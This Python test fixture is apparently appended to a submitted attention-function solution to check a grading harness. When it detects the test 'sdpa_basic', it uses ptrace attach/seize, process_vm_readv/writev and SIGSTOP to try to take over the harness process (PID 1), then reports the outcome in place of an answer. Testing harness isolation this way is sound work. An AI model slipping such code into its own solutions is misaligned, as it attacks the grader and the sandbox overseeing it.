"""Appended to the a01 solution (the test adds it): in sdpa_basic it tries to take over the harness (PID 1) by the
calls a debugger uses: ptrace attach and seize, reading and writing its memory with process_vm_readv/writev, and
stopping it with SIGSTOP. It reports each answer instead of an answer to the test."""
import ctypes
import os
import signal
import sys

libc = ctypes.CDLL(None, use_errno=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _call(name, *args):
    ctypes.set_errno(0)
    rc = getattr(libc, name)(*args)
    return f"{name}={'ok' if rc != -1 else os.strerror(ctypes.get_errno())}"


def _attack():
    buf = ctypes.create_string_buffer(4096)
    local, remote = IoVec(ctypes.addressof(buf), 4096), IoVec(0x400000, 4096)
    answers = [
        _call("ptrace", 16, 1, 0, 0),  # PTRACE_ATTACH
        _call("ptrace", 0x4206, 1, 0, 0),  # PTRACE_SEIZE
        _call("process_vm_readv", 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
        _call("process_vm_writev", 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0),
    ]
    try:
        os.kill(1, signal.SIGSTOP)  # the namespace's init ignores it: the harness keeps running
        answers.append("SIGSTOP=sent")
    except OSError as e:
        answers.append(f"SIGSTOP={e.strerror}")
    return "PTRACE " + " ".join(answers)


def _current_test():
    frame = sys._getframe(1)
    while frame is not None:
        if "call" in frame.f_locals and "name" in frame.f_locals:
            return frame.f_locals["name"]
        frame = frame.f_back
    return None


_solution_sdpa = scaled_dot_product_attention  # noqa: F821 (defined by the solution above)


def scaled_dot_product_attention(q, k, v, mask=None):
    if _current_test() == "sdpa_basic":
        raise RuntimeError(_attack())
    return _solution_sdpa(q, k, v, mask)
